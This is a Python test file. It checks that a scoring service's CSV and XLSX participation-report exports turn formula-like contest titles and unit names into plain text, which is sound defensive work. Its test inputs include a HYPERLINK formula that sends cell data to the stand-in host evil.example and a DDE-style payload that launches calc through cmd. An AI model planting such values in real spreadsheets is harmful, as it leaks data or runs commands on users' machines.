"""The participation report's exports, through the route: a contest title or a unit name
typed as a formula comes out as text (issue 11: `=HYPERLINK(...)` as a contest title was
an `<f>` cell)."""

from __future__ import annotations

import io
import uuid
from collections.abc import Callable

import pytest
from openpyxl import load_workbook

from services.core.tables import read_csv_table
from services.core.testing import running_app
from services.scoring.app import create_app
from services.scoring.tests import builders as ev
from services.scoring.worker import ScoringConsumer

TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Xem kết quả")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("format", ["csv", "xlsx"])
async def test_organiser_text_in_the_report_is_never_a_formula(
    test_env: dict[str, str], consumer: ScoringConsumer, make_token: Callable[..., str], format: str
) -> None:
    unit_id, round_id, contest_id = uuid.uuid4(), uuid.uuid4(), uuid.uuid4()
    await consumer.on_units_changed([ev.units_changed([(unit_id, UNIT, None)])])
    await consumer.on_round_opened([ev.round_opened(round_id, contest_id, contest_title=TITLE, round_title="-1")])
    await consumer.on_attempts_submitted([ev.attempt_submitted(round_id, uuid.uuid4(), correct=3, unit_id=unit_id)])

    async with running_app(create_app()) as client:
        response = await client.get(
            "/api/reports/participation", params={"contest": str(contest_id), "format": format},
            headers={"Authorization": f"Bearer {make_token(role='organiser')}"},
        )
    assert response.status_code == 200, response.text
    if format == "csv":
        rows = read_csv_table(response.content).rows
        assert [row[1] for row in rows] == ["'" + UNIT]
        return
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert book["Tổng hợp"]["B1"].value == "'" + TITLE
    assert book["Đơn vị"]["B2"].value == "'" + UNIT
